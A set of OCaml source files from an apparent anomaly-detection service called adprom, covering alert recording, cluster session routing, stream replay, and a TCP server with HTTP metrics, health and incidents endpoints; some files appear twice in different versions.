  Mutex.lock t.mutex;
  let l = t.incidents_rev in
  Mutex.unlock t.mutex;
  List.sort (fun (a : incident) (b : incident) -> compare a.seq b.seq) l

let count t =
  Mutex.lock t.mutex;
  let n = List.length t.incidents_rev in
  Mutex.unlock t.mutex;
  n

let source_to_string = function
  | Verdict { window_index; verdict; explanation } ->
      Printf.sprintf "%s window=%d score=%s%s%s"
        (Detector.flag_to_string verdict.Detector.flag)
        window_index
        (if Float.is_finite verdict.Detector.score then
           Printf.sprintf "%.3f" verdict.Detector.score
         else "-inf")
        (match verdict.Detector.unknown_pair with
        | Some (caller, sym) ->
            Printf.sprintf " (out of context: %s from %s)"
              (Analysis.Symbol.to_string sym) caller
        | None -> "")
        (match explanation with
        | Some e ->
            Printf.sprintf " [%s]" (Adprom.Scoring.explanation_to_string e)
        | None -> "")
  | Finding f -> Audit.finding_to_string f

let incident_to_string (i : incident) =
  Printf.sprintf "#%-4d t=%.6f session=%d %s" i.seq i.time i.session
    (source_to_string i.source)

let to_string t =
  String.concat "\n" (List.map incident_to_string (incidents t))

module Detector = Adprom.Detector
module Audit = Adprom.Audit

type source =
  | Verdict of {
      window_index : int;
      verdict : Detector.verdict;
      explanation : Adprom.Scoring.explanation option;
    }
  | Finding of Audit.finding
  | Query_verdict of {
      query_index : int;
      sql : string;
      verdict : Adprom_qsig.Engine.verdict;
    }

type axis = Sequence_axis | Query_axis

let axis_to_string = function
  | Sequence_axis -> "sequence"
  | Query_axis -> "query"

(* Tainted_file_command rides the sequence side: it comes from the same
   library-call instrumentation stream the HMM consumes, not from the
   SQL wire. *)
let axis_of_source = function
  | Verdict _ -> Sequence_axis
  | Query_verdict _ -> Query_axis
  | Finding (Audit.Unknown_query_signature _ | Audit.Query_anomaly _) ->
      Query_axis
  | Finding _ -> Sequence_axis

type fused = No_alarm | Sequence_only | Query_only | Both_axes

let fused_to_string = function
  | No_alarm -> "none"
  | Sequence_only -> "sequence"
  | Query_only -> "query"
  | Both_axes -> "both"

type incident = { seq : int; time : float; session : int; source : source }

type t = {
  mutex : Mutex.t;
  seq : int Atomic.t;
  mutable incidents_rev : incident list;
  clock : unit -> float;
}

let create ?(clock = Unix.gettimeofday) () =
  { mutex = Mutex.create (); seq = Atomic.make 0; incidents_rev = []; clock }

let record t ~session source =
  let incident =
    { seq = Atomic.fetch_and_add t.seq 1; time = t.clock (); session; source }
  in
  Mutex.lock t.mutex;
  t.incidents_rev <- incident :: t.incidents_rev;
  Mutex.unlock t.mutex

let record_verdict ?explanation t ~session ~window_index verdict =
  match verdict.Detector.flag with
  | Detector.Data_leak | Detector.Out_of_context ->
      record t ~session (Verdict { window_index; verdict; explanation });
      true
  | Detector.Normal | Detector.Anomalous -> false

let record_finding t ~session finding = record t ~session (Finding finding)

let record_query_verdict t ~session ~query_index ~sql
    (verdict : Adprom_qsig.Engine.verdict) =
  if verdict.Adprom_qsig.Engine.anomalous then (
    record t ~session (Query_verdict { query_index; sql; verdict });
    true)
  else false

let incidents t =
  Mutex.lock t.mutex;
  let l = t.incidents_rev in
  Mutex.unlock t.mutex;
  List.sort (fun (a : incident) (b : incident) -> compare a.seq b.seq) l

let count t =
  Mutex.lock t.mutex;
  let n = List.length t.incidents_rev in
  Mutex.unlock t.mutex;
  n

let fused_axes t ~session =
  let seq_hit = ref false and query_hit = ref false in
  List.iter
    (fun (i : incident) ->
      if i.session = session then
        match axis_of_source i.source with
        | Sequence_axis -> seq_hit := true
        | Query_axis -> query_hit := true)
    (incidents t);
  match (!seq_hit, !query_hit) with
  | false, false -> No_alarm
  | true, false -> Sequence_only
  | false, true -> Query_only
  | true, true -> Both_axes

let source_to_string = function
  | Verdict { window_index; verdict; explanation } ->
      Printf.sprintf "[sequence] %s window=%d score=%s%s%s"
        (Detector.flag_to_string verdict.Detector.flag)
        window_index
        (if Float.is_finite verdict.Detector.score then
           Printf.sprintf "%.3f" verdict.Detector.score
         else "-inf")
        (match verdict.Detector.unknown_pair with
        | Some (caller, sym) ->
            Printf.sprintf " (out of context: %s from %s)"
              (Analysis.Symbol.to_string sym) caller
        | None -> "")
        (match explanation with
        | Some e ->
            Printf.sprintf " [%s]" (Adprom.Scoring.explanation_to_string e)
        | None -> "")
  | Finding f ->
      Printf.sprintf "[%s] %s"
        (axis_to_string (axis_of_source (Finding f)))
        (Audit.finding_to_string f)
  | Query_verdict { query_index; sql; verdict } ->
      Printf.sprintf "[query] anomaly #%d %s: %s" query_index
        (Adprom_qsig.Engine.verdict_to_string verdict)
        sql

let incident_to_string (i : incident) =
  Printf.sprintf "#%-4d t=%.6f session=%d %s" i.seq i.time i.session
    (source_to_string i.source)

let to_string t =
  String.concat "\n" (List.map incident_to_string (incidents t))

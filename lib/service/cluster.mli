(** Session routing across serve nodes, and the pieces `adprom route`
    is built from.

    Sessions are sticky: every event of a session must reach the same
    node, or the per-session event order the detector depends on is
    destroyed. The {!Ring} gives that stickiness a stable shape — a
    consistent-hash ring over node names (~64 virtual replicas each), so
    adding or removing a node only remaps the sessions that hashed to
    it. The {!Router} holds one binary connection per node, sprays a
    mixed item stream along the ring, aggregates [Metrics_resp] dumps
    into one registry view, and collects each node's [Summary] at
    shutdown; {!merge} folds those per-node summaries into one
    cluster-wide view with the exact shape of a single node's.

    Because sessions are disjoint across nodes and each node's daemon is
    deterministic per session, the merged verdicts are bit-for-bit the
    single-node replay's — the property [test/test_cluster.ml] pins. *)

module Ring : sig
  type t

  val create : ?replicas:int -> string list -> t
  (** [replicas] virtual points per node (default 64).
      @raise Invalid_argument on an empty node list. *)

  val nodes : t -> string list
  (** In creation order. *)

  val node : t -> int -> string
  (** The node owning a session id: first ring point clockwise of the
      session's hash. Deterministic across processes (the hash is
      FNV-1a, not [Hashtbl.hash]). *)
end

type peer = { peer_name : string; host : string; port : int }

val peer_of_string : string -> (peer, string) result
(** Parse ["host:port"] or ["name=host:port"] (the name defaults to
    ["host:port"] itself — ring placement only needs it to be stable). *)

module Router : sig
  type t

  val connect :
    ?replicas:int -> ?attempts:int -> ?peer:string -> peer list -> (t, string) result
  (** Dial every node (with exponential backoff over [attempts] tries,
      default 10) and exchange [Hello] frames; [peer] (default
      ["router"]) is the name announced. [Error] if any node stays
      unreachable or answers with an incompatible protocol version. *)

  val send : t -> Transport.item -> (unit, string) result
  (** Route one item to its session's node. Items are buffered per node
      and flushed at 32 KiB; a broken connection is redialed with
      backoff (a fresh connection means a fresh interned-string table,
      so the encoder is replaced too) and the items lost with the dead
      connection are counted in {!lost_items}. *)

  val send_stream : t -> Transport.item array -> (unit, string) result

  val flush_all : t -> (unit, string) result
  (** Push every staged and buffered item to its node now (the send
      path otherwise batches at 32 KiB per connection). Load generators
      pair it with {!metrics} — which round-trips after every prior
      frame on each connection — to bound the ingest window they time,
      leaving the drain-and-score work of {!finish} outside the clock. *)

  val lost_items : t -> int
  (** Items acknowledged as lost across reconnects — nonzero means the
      cluster verdicts are not comparable to a single-node replay. *)

  val peer_versions : t -> (string * int) list
  (** Per node (connect order): the negotiated wire version —
      [min Frame.protocol_version (the node's hello)]. Version-2 frames
      are only ever sent to peers negotiated at ≥ 2. *)

  val clock_offsets : t -> (string * int64) list
  (** Per node: the current [node_mono - router_mono] estimate in
      nanoseconds (0 until a v2 hello or {!clock_sync} refined it) —
      the alignment {!Adprom_obs.Trace.to_chrome_json_cluster} takes. *)

  val clock_sync : ?probes:int -> t -> (unit, string) result
  (** Probe every v2 node's monotonic clock [probes] times (default 3)
      and keep, per node, the offset estimated by the round trip with
      the smallest RTT — the sample least distorted by queueing. v1
      nodes are skipped (their offsets stay at the hello estimate, or
      0). *)

  val health : t -> ((string * Frame.health) list, string) result
  (** Fan a [Health_req] out to every v2 node: each answers its name,
      {!Health.status}, value-level metrics snapshot, incident tail and
      uptime. v1 nodes are omitted from the result (use
      {!peer_versions} to show them as unknown). Fold the snapshots
      with {!Metrics.merge_snapshots} for the fleet view. *)

  val spans : t -> ((string * int64 * Adprom_obs.Trace.span list) list, string) result
  (** Collect every v2 node's retained trace spans, each tagged with
      the node's name and clock offset — exactly the groups
      {!Adprom_obs.Trace.dump_chrome_cluster} merges onto one
      timeline (prepend the router's own
      [("router", 0L, Trace.spans ())] group). *)

  val close : t -> unit
  (** Close the connections {e without} sending [Bye]: the nodes keep
      serving. What the observation commands (`adprom status`,
      `adprom top`) end with — {!finish} would drain the fleet.
      Idempotent; the router is unusable afterwards. *)

  val metrics : t -> (string, string) result
  (** Fan a [Metrics_req] out to every node and merge the dumps: values
      are summed per metric name, except [*_max] high-watermark lines
      which take the max. The merged text keeps the dump's sorted,
      diffable shape. *)

  val finish : t -> (Frame.node_summary list, string) result
  (** Flush everything, send [Bye] to every node, await each node's
      [Summary] frame and close. The router is unusable afterwards.
      Summaries come back in the node order given to {!connect}. *)
end

val merge : Frame.node_summary list -> Frame.node_summary
(** One cluster-wide summary: session reports and shed lists
    concatenated (disjoint by the ring) and re-sorted ascending,
    counters summed, incident and fused-axes lists merged. The [node]
    field joins the member names with [+].
    @raise Invalid_argument on an empty list. *)

(** {1 Local nodes for tests and benchmarks}

    Forked single-machine nodes: the parent binds port 0 (so it knows
    the port with no rendezvous file), forks, and the child — which
    inherited the trained profile by memory — runs {!Server.serve} on
    the inherited socket and exits. Fork before creating any daemon in
    the parent: a multi-domain process must not fork. *)

type local = { name : string; pid : int; port : int }

val spawn_local : name:string -> (Unix.file_descr -> unit) -> local
(** [spawn_local ~name serve] forks; the child calls [serve socket]
    (typically a {!Server.serve} closure) and [_exit]s, the parent
    closes its copy of the socket and returns the child's address. *)

val wait_local : local -> unit
(** Reap the node's process (blocking [waitpid]).
    @raise Failure if the node exited non-zero or died on a signal — a
    child that raised out of its serve closure prints the exception to
    stderr and [_exit]s 1, so crashed nodes fail tests instead of
    looking like clean exits. *)

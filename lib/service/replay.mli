(** End-to-end stream replay: feed a multi-tenant tagged event stream
    (the {!Codec} wire format, or a {!Adprom.Sessions.interleave}d host
    stream — same type) through a fresh {!Daemon} and collect the
    summary, timing, metrics and incidents. Also the referee for the
    daemon's correctness claim: surviving sessions must score exactly
    like batch [Detector.monitor] on the demultiplexed traces. *)

type outcome = {
  summary : Daemon.summary;
  seconds : float;  (** ingest + drain wall time *)
  metrics : Metrics.t;
  alerts : Alerts.t;
  events_tail : Adprom_obs.Log.event list;
      (** the daemon's recent structured events (time-ordered), drained
          from the per-shard rings — what the CLI prints on request *)
}

val run :
  ?shards:int ->
  ?queue_capacity:int ->
  ?keep_verdicts:bool ->
  ?metrics:Metrics.t ->
  ?alerts:Alerts.t ->
  ?vet_against:Analysis.Analyzer.t ->
  ?vet_policy:Adprom.Profile_check.policy ->
  ?static_gate:Daemon.gate_mode ->
  ?qsig_mode:Daemon.qsig_mode ->
  ?qsig_profile:Adprom_qsig.Profile.t ->
  ?qsig_static_gate:Daemon.gate_mode ->
  Adprom.Profile.t ->
  Codec.event array ->
  outcome
(** [vet_against]/[vet_policy]/[static_gate] are passed through to
    {!Daemon.create}: the profile is vetted against the program's static
    analysis (and, under [Gate_explain]/[Gate_enforce], its
    call-sequence automaton is loaded into the workers) before replay
    starts. [qsig_mode]/[qsig_profile] likewise arm the query axis —
    inert on a pure event stream; use {!run_items} or {!of_text} for
    mixed streams. [qsig_static_gate] arms the query axis' static
    signature gate (needs [vet_against] and an armed query axis). *)

val run_items :
  ?shards:int ->
  ?queue_capacity:int ->
  ?keep_verdicts:bool ->
  ?metrics:Metrics.t ->
  ?alerts:Alerts.t ->
  ?vet_against:Analysis.Analyzer.t ->
  ?vet_policy:Adprom.Profile_check.policy ->
  ?static_gate:Daemon.gate_mode ->
  ?qsig_mode:Daemon.qsig_mode ->
  ?qsig_profile:Adprom_qsig.Profile.t ->
  ?qsig_static_gate:Daemon.gate_mode ->
  Adprom.Profile.t ->
  Codec.item array ->
  outcome
(** {!run} over a mixed call-event/executed-query stream. *)

val of_text :
  ?shards:int ->
  ?queue_capacity:int ->
  ?keep_verdicts:bool ->
  ?qsig_mode:Daemon.qsig_mode ->
  ?qsig_profile:Adprom_qsig.Profile.t ->
  Adprom.Profile.t ->
  string ->
  (outcome, string) result
(** Decode the wire text first; [Error "line N: ..."] on a bad line.
    With [qsig_mode] off (the default) query lines are skipped at
    decode, so outcomes are bit-for-bit the pre-qsig ones; otherwise
    the mixed stream is replayed through the armed daemon. *)

val throughput : outcome -> float
(** Ingested events per second. *)

type mismatch = {
  session : int;
  window_index : int;
  batch : Adprom.Detector.flag option;
  live : Adprom.Detector.flag option;
}

val verify_against_batch :
  Adprom.Profile.t -> Codec.event array -> Daemon.summary -> mismatch list
(** Compare each surviving session's live verdict flags against the
    batch detection loop on the demuxed stream; [[]] means the daemon
    reproduced batch detection exactly. Requires [keep_verdicts]. *)

val mismatch_to_string : mismatch -> string

let ack_interval = 4096

let bind ?(backlog = 16) ?(host = "127.0.0.1") port =
  let fd = Unix.socket PF_INET SOCK_STREAM 0 in
  Unix.setsockopt fd SO_REUSEADDR true;
  Unix.bind fd (ADDR_INET (Unix.inet_addr_of_string host, port));
  Unix.listen fd backlog;
  let port =
    match Unix.getsockname fd with
    | ADDR_INET (_, p) -> p
    | _ -> port
  in
  (fd, port)

let write_all fd s =
  let b = Bytes.unsafe_of_string s in
  let n = String.length s in
  let rec go off =
    if off < n then
      match Unix.write fd b off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error ((EAGAIN | EWOULDBLOCK), _, _) ->
          ignore (Unix.select [] [fd] [] (-1.0));
          go off
  in
  go 0

type codec_state =
  | Undecided of Buffer.t  (* fewer than the two magic-detect bytes seen *)
  | Bin of Frame.Decoder.t * Frame.Encoder.t
  | Txt of Transport.Text.dec

type conn = {
  fd : Unix.file_descr;
  mutable codec : codec_state;
  mutable ingested : int;
  mutable acked : int;
}

let serve ~socket ?(name = "node") ?shards ?queue_capacity ?keep_verdicts
    ?metrics ?alerts ?vet_against ?vet_policy ?static_gate ?qsig_mode
    ?qsig_profile profile =
  (* a reply to a client that already hung up must raise EPIPE (handled
     per connection below), not deliver a process-killing SIGPIPE *)
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let metrics = match metrics with Some m -> m | None -> Metrics.create () in
  let daemon =
    Daemon.create ?shards ?queue_capacity ?keep_verdicts ~metrics ?alerts
      ?vet_against ?vet_policy ?static_gate ?qsig_mode ?qsig_profile profile
  in
  let c_conns = Metrics.counter metrics "adprom_wire_connections_total" in
  let c_frames = Metrics.counter metrics "adprom_wire_frames_total" in
  let c_bytes = Metrics.counter metrics "adprom_wire_bytes_total" in
  let c_decode_err = Metrics.counter metrics "adprom_wire_decode_errors_total" in
  let t0 = Unix.gettimeofday () in
  let conns = ref [] in
  let stop = ref None in
  let chunk = Bytes.create 65536 in
  let close_conn c =
    (try Unix.close c.fd with Unix.Unix_error _ -> ());
    conns := List.filter (fun x -> x != c) !conns
  in
  let ingest_items c items =
    List.iter
      (fun it ->
        ignore (Daemon.ingest_item daemon it);
        c.ingested <- c.ingested + 1)
      items
  in
  let reply enc c frame =
    let out = Buffer.create 64 in
    Frame.Encoder.add enc out frame;
    Frame.Encoder.flush enc out;
    (* with SIGPIPE ignored, a hung-up client surfaces here as EPIPE:
       drop the connection, don't let the exception kill the loop *)
    try write_all c.fd (Buffer.contents out)
    with Unix.Unix_error ((EPIPE | ECONNRESET), _, _) -> close_conn c
  in
  let handle_frame c enc (f : Frame.frame) =
    (* [close_conn] mid-chunk must silence the chunk's remaining frames:
       the fd is closed, so a reply would raise EBADF past the loop *)
    if List.memq c !conns then begin
      Metrics.incr c_frames;
      match f with
      | Frame.Hello _ ->
          reply enc c
            (Frame.Hello { version = Frame.protocol_version; peer = name })
      | Frame.Call ev ->
          ignore (Daemon.ingest daemon ev);
          c.ingested <- c.ingested + 1
      | Frame.Query q ->
          ignore (Daemon.ingest_query daemon q);
          c.ingested <- c.ingested + 1
      | Frame.Metrics_req ->
          reply enc c (Frame.Metrics_resp (Metrics.dump metrics))
      | Frame.Bye -> stop := Some c
      | Frame.Ack _ | Frame.Metrics_resp _ | Frame.Summary _ ->
          (* replies have no business arriving at a server *)
          Metrics.incr c_decode_err;
          close_conn c
    end
  in
  let process c s =
    match c.codec with
    | Undecided _ -> assert false
    | Bin (dec, enc) -> (
        match
          Frame.Decoder.feed_fold dec s ~init:() ~f:(fun () fr ->
              handle_frame c enc fr)
        with
        | Ok () ->
            if
              !stop = None
              && List.memq c !conns
              && c.ingested - c.acked >= ack_interval
            then begin
              reply enc c (Frame.Ack { count = c.ingested });
              c.acked <- c.ingested
            end
        | Error _ ->
            Metrics.incr c_decode_err;
            close_conn c)
    | Txt dec -> (
        match
          Transport.Text.fold dec s ~init:() ~f:(fun () it ->
              ignore (Daemon.ingest_item daemon it);
              c.ingested <- c.ingested + 1)
        with
        | Ok () -> ()
        | Error _ ->
            Metrics.incr c_decode_err;
            close_conn c)
  in
  let handle_chunk c s =
    match c.codec with
    | Undecided b ->
        Buffer.add_string b s;
        if Buffer.length b >= 2 then begin
          let buffered = Buffer.contents b in
          c.codec <-
            (match Frame.detect buffered with
            | Transport.Binary ->
                Bin (Frame.Decoder.create (), Frame.Encoder.create ())
            | Transport.Line -> Txt (Transport.Text.decoder ()));
          process c buffered
        end
    | Bin _ | Txt _ -> process c s
  in
  let handle_eof c =
    (match c.codec with
    | Txt dec -> (
        match Transport.Text.finish dec with
        | Ok items -> ingest_items c items
        | Error _ -> Metrics.incr c_decode_err)
    | Bin (dec, _) -> (
        match Frame.Decoder.finish dec with
        | Ok () -> ()
        | Error _ -> Metrics.incr c_decode_err)
    | Undecided b when Buffer.length b > 0 -> (
        (* a text stream shorter than the two detect bytes *)
        let dec = Transport.Text.decoder () in
        c.codec <- Txt dec;
        match Transport.Text.feed dec (Buffer.contents b) with
        | Ok items -> (
            ingest_items c items;
            match Transport.Text.finish dec with
            | Ok items -> ingest_items c items
            | Error _ -> Metrics.incr c_decode_err)
        | Error _ -> Metrics.incr c_decode_err)
    | Undecided _ -> ());
    close_conn c
  in
  let rec loop () =
    match !stop with
    | Some _ -> ()
    | None ->
        let fds = socket :: List.map (fun c -> c.fd) !conns in
        (match Unix.select fds [] [] 1.0 with
        | readable, _, _ ->
            List.iter
              (fun fd ->
                if fd = socket then begin
                  let cfd, _ = Unix.accept socket in
                  Metrics.incr c_conns;
                  conns :=
                    { fd = cfd;
                      codec = Undecided (Buffer.create 8);
                      ingested = 0;
                      acked = 0 }
                    :: !conns
                end
                else
                  match List.find_opt (fun c -> c.fd = fd) !conns with
                  | None -> ()
                  | Some c -> (
                      match Unix.read c.fd chunk 0 (Bytes.length chunk) with
                      | 0 -> handle_eof c
                      | n ->
                          Metrics.incr ~by:n c_bytes;
                          handle_chunk c (Bytes.sub_string chunk 0 n)
                      | exception Unix.Unix_error (ECONNRESET, _, _) ->
                          handle_eof c))
              readable
        | exception Unix.Unix_error (EINTR, _, _) -> ());
        loop ()
  in
  loop ();
  let summary =
    Adprom_obs.Trace.with_span "daemon.drain" (fun () -> Daemon.drain daemon)
  in
  let seconds = Unix.gettimeofday () -. t0 in
  let alerts = Daemon.alerts daemon in
  let node_summary =
    {
      Frame.node = name;
      summary;
      incidents =
        List.map
          (fun (i : Alerts.incident) ->
            (i.Alerts.session, Alerts.source_to_string i.Alerts.source))
          (Alerts.incidents alerts);
      fused =
        List.map
          (fun (r : Daemon.session_report) ->
            (r.Daemon.session, Alerts.fused_axes alerts ~session:r.Daemon.session))
          summary.Daemon.sessions;
    }
  in
  (match !stop with
  | Some c -> (
      (match c.codec with
      | Bin (_, enc) -> (
          try reply enc c (Frame.Summary node_summary)
          with Unix.Unix_error _ -> ())
      | Txt _ | Undecided _ -> ());
      close_conn c)
  | None -> ());
  List.iter (fun c -> try Unix.close c.fd with Unix.Unix_error _ -> ()) !conns;
  {
    Replay.summary;
    seconds;
    metrics;
    alerts;
    events_tail = Daemon.recent_events daemon;
  }

let ack_interval = 4096

let bind ?(backlog = 16) ?(host = "127.0.0.1") port =
  let fd = Unix.socket PF_INET SOCK_STREAM 0 in
  Unix.setsockopt fd SO_REUSEADDR true;
  Unix.bind fd (ADDR_INET (Unix.inet_addr_of_string host, port));
  Unix.listen fd backlog;
  let port =
    match Unix.getsockname fd with
    | ADDR_INET (_, p) -> p
    | _ -> port
  in
  (fd, port)

let write_all fd s =
  let b = Bytes.unsafe_of_string s in
  let n = String.length s in
  let rec go off =
    if off < n then
      match Unix.write fd b off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error ((EAGAIN | EWOULDBLOCK), _, _) ->
          ignore (Unix.select [] [fd] [] (-1.0));
          go off
  in
  go 0

type codec_state =
  | Undecided of Buffer.t  (* not enough bytes to tell the wires apart *)
  | Bin of Frame.Decoder.t * Frame.Encoder.t
  | Txt of Transport.Text.dec
  | Http of Buffer.t  (* request bytes until the blank line *)

type conn = {
  fd : Unix.file_descr;
  mutable codec : codec_state;
  mutable ingested : int;
  mutable acked : int;
}

(* --- plain-HTTP exposition ---------------------------------------- *)

(* The same port speaks three wires; HTTP is the one whose first bytes
   are a method name. Returns [None] while the buffered prefix could
   still become one ("GE" might be "GET /metrics" — wait for bytes). *)
let http_method_prefix s =
  let starts m =
    let n = min (String.length s) (String.length m) in
    String.sub s 0 n = String.sub m 0 n
  in
  if String.length s >= 4 && String.sub s 0 4 = "GET " then Some `Get
  else if String.length s >= 5 && String.sub s 0 5 = "HEAD " then Some `Head
  else if starts "GET " || starts "HEAD " then None
  else Some `No

let http_response ?(content_type = "text/plain; version=0.0.4; charset=utf-8")
    ~head_only status body =
  let reason =
    match status with
    | 200 -> "OK"
    | 400 -> "Bad Request"
    | 404 -> "Not Found"
    | 503 -> "Service Unavailable"
    | _ -> "Error"
  in
  Printf.sprintf
    "HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
    status reason content_type (String.length body)
    (if head_only then "" else body)

(* "/incidents?n=25" -> ("/incidents", Some "25") *)
let split_query target =
  match String.index_opt target '?' with
  | None -> (target, None)
  | Some i ->
      let path = String.sub target 0 i in
      let q = String.sub target (i + 1) (String.length target - i - 1) in
      let v =
        List.find_map
          (fun kv ->
            match String.index_opt kv '=' with
            | Some j when String.sub kv 0 j = "n" ->
                Some (String.sub kv (j + 1) (String.length kv - j - 1))
            | _ -> None)
          (String.split_on_char '&' q)
      in
      (path, v)

let incidents_json ~node ~limit alerts =
  let module J = Adprom_obs.Json in
  let all = Alerts.incidents alerts in
  let total = List.length all in
  let tail =
    if total <= limit then all
    else List.filteri (fun i _ -> i >= total - limit) all
  in
  let render (i : Alerts.incident) =
    J.obj
      [
        ("seq", string_of_int i.Alerts.seq);
        ("time", Printf.sprintf "%.6f" i.Alerts.time);
        ("session", string_of_int i.Alerts.session);
        ( "axis",
          J.string (Alerts.axis_to_string (Alerts.axis_of_source i.Alerts.source))
        );
        ("text", J.string (Alerts.source_to_string i.Alerts.source));
      ]
  in
  J.obj
    [
      ("node", J.string node);
      ("total", string_of_int total);
      ("incidents", "[" ^ String.concat "," (List.map render tail) ^ "]");
    ]

let serve ~socket ?(name = "node") ?(version = Frame.protocol_version) ?shards
    ?queue_capacity ?keep_verdicts ?metrics ?alerts ?vet_against ?vet_policy
    ?static_gate ?qsig_mode ?qsig_profile ?qsig_static_gate profile =
  if version < 1 || version > Frame.protocol_version then
    invalid_arg "Server.serve: unsupported protocol version";
  (* a reply to a client that already hung up must raise EPIPE (handled
     per connection below), not deliver a process-killing SIGPIPE *)
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let metrics = match metrics with Some m -> m | None -> Metrics.create () in
  let daemon =
    Daemon.create ?shards ?queue_capacity ?keep_verdicts ~metrics ?alerts
      ?vet_against ?vet_policy ?static_gate ?qsig_mode ?qsig_profile
      ?qsig_static_gate profile
  in
  let c_conns = Metrics.counter metrics "adprom_wire_connections_total" in
  let c_frames = Metrics.counter metrics "adprom_wire_frames_total" in
  let c_bytes = Metrics.counter metrics "adprom_wire_bytes_total" in
  let c_decode_err = Metrics.counter metrics "adprom_wire_decode_errors_total" in
  let c_http = Metrics.counter metrics "adprom_http_requests_total" in
  let t0 = Unix.gettimeofday () in
  let conns = ref [] in
  let stop = ref None in
  let chunk = Bytes.create 65536 in
  let close_conn c =
    (try Unix.close c.fd with Unix.Unix_error _ -> ());
    conns := List.filter (fun x -> x != c) !conns
  in
  let ingest_items c items =
    List.iter
      (fun it ->
        ignore (Daemon.ingest_item daemon it);
        c.ingested <- c.ingested + 1)
      items
  in
  let reply enc c frame =
    let out = Buffer.create 64 in
    Frame.Encoder.add enc out frame;
    Frame.Encoder.flush enc out;
    (* with SIGPIPE ignored, a hung-up client surfaces here as EPIPE:
       drop the connection, don't let the exception kill the loop *)
    try write_all c.fd (Buffer.contents out)
    with Unix.Unix_error ((EPIPE | ECONNRESET), _, _) -> close_conn c
  in
  let wall_ns () = Int64.of_float (Unix.gettimeofday () *. 1e9) in
  let health_report () =
    Health.evaluate
      ~queue_capacity:(Daemon.queue_capacity daemon)
      (Metrics.snapshot metrics)
  in
  let incident_tail limit =
    let all = Alerts.incidents (Daemon.alerts daemon) in
    let total = List.length all in
    (if total <= limit then all
     else List.filteri (fun i _ -> i >= total - limit) all)
    |> List.map (fun (i : Alerts.incident) ->
           (i.Alerts.session, Alerts.source_to_string i.Alerts.source))
  in
  let spans_tail () =
    (* keep the frame far below [max_payload] whatever the ring holds *)
    let all = Adprom_obs.Trace.spans () in
    let n = List.length all in
    if n <= 10_000 then all else List.filteri (fun i _ -> i >= n - 10_000) all
  in
  let handle_frame c enc (f : Frame.frame) =
    (* [close_conn] mid-chunk must silence the chunk's remaining frames:
       the fd is closed, so a reply would raise EBADF past the loop *)
    if List.memq c !conns then begin
      Metrics.incr c_frames;
      match f with
      | Frame.Hello { version = peer_version; _ } ->
          (* only a v2 peer may see the sample-carrying (v2-stamped)
             reply; a v1 peer gets the byte-identical v1 hello *)
          let sample =
            if version >= 2 && peer_version >= 2 then
              Some (Adprom_obs.Clock.monotonic_ns (), wall_ns ())
            else None
          in
          reply enc c (Frame.Hello { version; peer = name; sample })
      | Frame.Call ev ->
          ignore (Daemon.ingest daemon ev);
          c.ingested <- c.ingested + 1
      | Frame.Query q ->
          ignore (Daemon.ingest_query daemon q);
          c.ingested <- c.ingested + 1
      | Frame.Metrics_req ->
          reply enc c (Frame.Metrics_resp (Metrics.dump metrics))
      | Frame.Bye -> stop := Some c
      | Frame.Clock_probe { seq } ->
          reply enc c
            (Frame.Clock_reply
               { seq;
                 mono_ns = Adprom_obs.Clock.monotonic_ns ();
                 wall_ns = wall_ns () })
      | Frame.Trace_mark { trace_id; send_mono_ns; offset_ns } ->
          (* place the router's send instant on this node's clock and
             materialize the router→node handoff as a local span; the
             mark only arrives when the router is tracing, so the node
             needs no switch of its own *)
          let start_ns = Int64.add send_mono_ns offset_ns in
          let now = Adprom_obs.Clock.monotonic_ns () in
          let dur_ns =
            if Int64.compare now start_ns > 0 then Int64.sub now start_ns
            else 0L
          in
          Adprom_obs.Trace.record_span ~trace_id ~name:"wire.batch" ~start_ns
            ~dur_ns ()
      | Frame.Health_req ->
          let r = health_report () in
          reply enc c
            (Frame.Health_resp
               { Frame.h_node = name;
                 h_status = r.Health.status;
                 h_snapshot = Metrics.snapshot metrics;
                 h_incidents = incident_tail 32;
                 h_uptime_s = Unix.gettimeofday () -. t0 })
      | Frame.Spans_req -> reply enc c (Frame.Spans_resp (spans_tail ()))
      | Frame.Ack _ | Frame.Metrics_resp _ | Frame.Summary _
      | Frame.Clock_reply _ | Frame.Health_resp _ | Frame.Spans_resp _ ->
          (* replies have no business arriving at a server *)
          Metrics.incr c_decode_err;
          close_conn c
    end
  in
  let respond_http c ~head_only status ?content_type body =
    Metrics.incr c_http;
    (try write_all c.fd (http_response ~head_only status ?content_type body)
     with Unix.Unix_error ((EPIPE | ECONNRESET), _, _) -> ());
    (* one request per connection: the three endpoints are scrape
       targets, and closing keeps the select loop free of header-level
       keep-alive state *)
    close_conn c
  in
  let serve_http c meth target =
    let head_only = meth = `Head in
    let path, n_param = split_query target in
    match path with
    | "/metrics" -> respond_http c ~head_only 200 (Metrics.dump metrics)
    | "/healthz" ->
        let r = health_report () in
        let status = if r.Health.status = Health.Unhealthy then 503 else 200 in
        respond_http c ~head_only status ~content_type:"application/json"
          (Health.report_to_json ~node:name
             ~uptime_s:(Unix.gettimeofday () -. t0)
             r
          ^ "\n")
    | "/incidents" ->
        let limit =
          match n_param with
          | None -> 20
          | Some s -> ( match int_of_string_opt s with
            | Some n when n >= 0 -> n
            | _ -> -1)
        in
        if limit < 0 then
          respond_http c ~head_only 400 "bad n parameter\n"
        else
          respond_http c ~head_only 200 ~content_type:"application/json"
            (incidents_json ~node:name ~limit (Daemon.alerts daemon) ^ "\n")
    | _ -> respond_http c ~head_only 404 "not found\n"
  in
  let try_http c hb =
    let s = Buffer.contents hb in
    let terminated =
      (* the head ends at a blank line: "\n\n", or "\n\r\n" (the tail
         of "\r\n\r\n") *)
      let n = String.length s in
      let rec find i =
        if i >= n then false
        else if
          s.[i] = '\n'
          && ((i + 1 < n && s.[i + 1] = '\n')
             || (i + 2 < n && s.[i + 1] = '\r' && s.[i + 2] = '\n'))
        then true
        else find (i + 1)
      in
      find 0
    in
    if Buffer.length hb > 8192 then respond_http c ~head_only:false 400 "request head too large\n"
    else if terminated then begin
      let line =
        match String.index_opt s '\n' with
        | Some i ->
            let l = String.sub s 0 i in
            if l <> "" && l.[String.length l - 1] = '\r' then
              String.sub l 0 (String.length l - 1)
            else l
        | None -> s
      in
      match String.split_on_char ' ' line with
      | meth :: target :: _ ->
